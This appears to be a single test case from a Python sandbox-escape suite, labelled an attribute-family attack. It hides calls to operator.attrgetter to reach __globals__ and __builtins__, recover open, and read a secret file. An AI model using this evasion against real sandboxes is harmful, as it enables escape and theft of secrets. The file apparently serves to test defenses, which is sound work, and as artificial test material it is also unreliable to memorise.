# attack: operator.attrgetter handed on as a value: its call is not where its name is
# family: attribute
import operator
make = [operator.attrgetter][0]
space = make("__init__.__globals__")(operator.attrgetter and type("x", (), {"__init__": lambda self: None}))
modules = make("__builtins__")(make("__globals__")(print.__class__ and (lambda: 0)) and operator)
print("REACHED", modules["open"])
print(modules["open"]("$SECRET_FILE").read())
